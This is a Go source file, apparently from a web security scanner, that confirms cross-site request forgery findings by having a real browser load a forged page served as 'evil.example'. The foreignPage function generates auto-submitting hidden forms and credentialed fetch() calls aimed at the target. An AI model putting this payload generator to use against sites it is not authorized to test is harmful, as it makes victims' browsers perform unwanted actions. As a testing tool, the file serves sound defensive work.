package csrf

import (
	"context"
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"

	"github.com/launchready/launchready/artifact"
	"github.com/launchready/launchready/artifact/forgery"
	"github.com/launchready/launchready/evidence"
	"github.com/launchready/launchready/internal/browse"
	"github.com/launchready/launchready/internal/canary"
	"github.com/launchready/launchready/internal/gather"
	"github.com/launchready/launchready/internal/login"
	"github.com/launchready/launchready/internal/wire"
	"github.com/launchready/launchready/portal"
)

const (
	// foreignHost is where the foreign page stands; the proxy answers for it.
	foreignHost = "evil.example"
	// maxConfirms bounds how often a browser repeats what got through.
	maxConfirms = 3
)

// stage is a browser with its way out and the foreign page it is shown.
type stage struct {
	*browse.Browser
	proxy *wire.Proxy

	mu   sync.Mutex
	page string
}

// open starts a browser that acts by the identity's name; like says what its
// requests are for.
func (r *run) open(ctx context.Context, who string, like wire.Request) (*stage, error) {
	s := &stage{}
	like.By, like.Expect5xx = "csrf", true
	foreign := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		s.mu.Lock()
		defer s.mu.Unlock()
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Cache-Control", "no-store")
		_, _ = w.Write([]byte(s.page)) // the browser is ours
	})
	proxy, err := r.t.Wire.Bare(who).Proxy(ctx, like, map[string]http.Handler{foreignHost: foreign})
	if err != nil {
		return nil, err
	}
	b, err := browse.Open(ctx, proxy.Addr)
	if err != nil {
		proxy.Close()
		return nil, err
	}
	s.Browser, s.proxy, r.out.Browser = b, proxy, b.Version
	return s, nil
}

func (s *stage) close() {
	s.Browser.Close()
	s.proxy.Close()
}

// cookies are those of a session, as they were set.
func (r *run) cookies(s *login.Session, study []artifact.Cookie) []browse.Cookie {
	at, err := r.at.Resolve("/")
	if err != nil {
		return nil
	}
	var out []browse.Cookie
	for _, k := range s.Credential().Cookies {
		c := browse.Cookie{Name: k.Name, Value: k.Value, URL: at, Path: "/"}
		for _, known := range study {
			if set, ok := known.Last(); ok && known.Name == k.Name {
				c.Domain, c.SameSite, c.Secure, c.HTTPOnly = set.Domain, set.SameSite, set.Secure, set.HTTPOnly
				if strings.HasPrefix(set.Path, "/") {
					c.Path = set.Path
				}
			}
		}
		out = append(out, c)
	}
	return out
}

// confirm has a page of another site do in a real browser what got through.
func (r *run) confirm(ctx context.Context, op *operation, v *victim) {
	f := &op.Forgery
	k, ok := r.through(op, v)
	if !ok || v.Kind != byCookie || ctx.Err() != nil {
		return
	}
	f.Confirm = &artifact.Confirm{Page: "http://" + foreignHost}
	if r.confirms++; r.confirms > maxConfirms {
		f.Confirm.Why = "enough others were"
		return
	}
	if f.Effect != artifact.Appears { // what it was is gone or changed
		sign := f.Sign
		skip := op.begin(ctx)
		f.Confirm.Gone, f.Sign = f.Sign, sign
		if skip.Reason != "" {
			f.Confirm.Why = skip.Why
			return
		}
		r.rebase(ctx, op)
	}
	if err := r.perform(ctx, op, v, k); err != nil {
		f.Confirm.Why = err.Error()
	}
}

// rebase takes the readings before anew, for an object that was made anew.
func (r *run) rebase(ctx context.Context, op *operation) {
	before := []artifact.Attempt{r.read(ctx, op.read("before")).Attempt}
	if op.Effect == artifact.Differs {
		before = append(before, r.read(ctx, op.read("before again")).Attempt)
	}
	op.Confirm.Before = before
}

// through is the gravest try that got through, best one that opens a page:
// browsers differ in what cookies scripts of other sites may use.
func (r *run) through(op *operation, v *victim) (try, bool) {
	tries := slices.Clone(op.Tries)
	slices.Reverse(tries)
	slices.SortStableFunc(tries, func(a, b artifact.Forged) int {
		if a.Navigates == b.Navigates {
			return 0
		} else if a.Navigates {
			return -1
		}
		return 1
	})
	for _, t := range tries {
		happened, err := forgery.Happened(&op.Forgery, t, r.exchange)
		if err != nil || !happened || t.Site != crossSite {
			continue
		}
		for _, k := range append(r.forms(op, v), r.tokens(op, v)...) {
			if k.form == t.Form && k.token == t.Token {
				return k, true
			}
		}
	}
	return try{}, false
}

// perform shows the browser the foreign page and re-reads.
func (r *run) perform(ctx context.Context, op *operation, v *victim, k try) error {
	tag := gather.Canary("lrw-")
	o, ok := op.order(tag)
	if !ok {
		return fmt.Errorf("%s", canary.UnknownBody)
	}
	q := o.request(k.form)
	if k.change != nil {
		k.change(&q)
	}
	q.URL = r.absolute(q.URL)
	s, err := r.open(ctx, v.session.Who(), wire.Request{For: "browser: " + k.form, Effect: portal.Write})
	if err != nil {
		return err
	}
	defer s.close()
	op.Confirm.Browser, op.Confirm.Sign = s.Version, o.sign
	hold := r.cookies(v.session, v.others)
	if pair, _, ok := strings.Cut(evidence.Get(q.Header, "Cookie"), "="); ok { // as if a sibling had set it
		_, value, _ := strings.Cut(evidence.Get(q.Header, "Cookie"), "=")
		hold = append(hold, browse.Cookie{Name: pair, Value: value, URL: q.URL, Path: "/", Secure: true, SameSite: "None"})
	}
	if err := s.Hold(hold...); err != nil {
		return err
	}
	e := op.entry(tag)
	e.Target, e.Method, e.Path = r.t.Target.Name, q.Method, o.target
	id, err := r.t.Journal.Before(e)
	if err != nil {
		return err
	}
	s.page = foreignPage(q, k.form, o)
	if err := s.Visit("http://" + foreignHost + "/"); err != nil {
		return err
	}
	var trip wire.Trip
	sent := func() bool {
		for _, t := range s.proxy.Trips() {
			if t.Method == q.Method && sameAddress(t.URL, q.URL) {
				trip = t
				return true
			}
		}
		return false
	}
	if !s.Until(sent) {
		return fmt.Errorf("the browser did not send it")
	}
	op.Confirm.Request = trip.Ref
	if err := r.t.Journal.Done(id, fmt.Sprintf("answered %d to a browser", trip.Status), nil); err != nil {
		return err
	}
	op.Confirm.After = r.read(ctx, op.read("after, by a browser")).Attempt
	return nil
}

// absolute is the full address of a target.
func (r *run) absolute(target string) string {
	if abs, err := r.at.Resolve(target); err == nil {
		return abs
	}
	return target
}

func sameAddress(a, b string) bool {
	x, errX := url.Parse(a)
	y, errY := url.Parse(b)
	return errX == nil && errY == nil && x.Path == y.Path && x.Query().Encode() == y.Query().Encode()
}

// foreignPage is a page that sends the request as soon as it is shown.
func foreignPage(q wire.Request, form string, o order) string {
	script := "document.forms[0].submit()"
	var b strings.Builder
	b.WriteString("<!doctype html><title>A page of another site</title>\n")
	input := func(name, value string) {
		fmt.Fprintf(&b, "<input type=\"hidden\" name=\"%s\" value=\"%s\">\n", html.EscapeString(name), html.EscapeString(value))
	}
	open := func(enctype string) {
		fmt.Fprintf(&b, "<form method=\"post\" action=\"%s\" enctype=\"%s\">\n", html.EscapeString(q.URL), enctype)
	}
	switch form {
	case formURL, formMethod:
		open(canary.FormType)
		body, _ := url.ParseQuery(string(q.Body)) // written by us
		for name := range body {
			input(name, body.Get(name))
		}
		b.WriteString("</form>\n")
	case formParts:
		open("multipart/form-data")
		for name, value := range o.fields {
			input(name, canary.PlainText(value))
		}
		b.WriteString("</form>\n")
	case formText:
		open("text/plain")
		name, value, _ := strings.Cut(strings.TrimSuffix(string(q.Body), "\r\n"), "=")
		input(name, value)
		b.WriteString("</form>\n")
	case formBare, formJSON:
		init := map[string]any{"method": q.Method, "credentials": "include", "mode": "no-cors"}
		body := "new Blob([" + quoted(string(q.Body)) + "])"
		if form == formJSON {
			init["mode"], init["headers"] = "cors", map[string]string{"Content-Type": canary.JSONType}
			body = quoted(string(q.Body))
		}
		script = fmt.Sprintf("fetch(%s, Object.assign(%s, {body: %s}))", quoted(q.URL), quoted(init), body)
	default:
		script = "location.href = " + quoted(q.URL)
	}
	return b.String() + "<script>" + script + "</script>\n"
}

// quoted is a value as a script writes it; encoding/json escapes "<" as well.
func quoted(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		return `""`
	}
	return string(b)
}
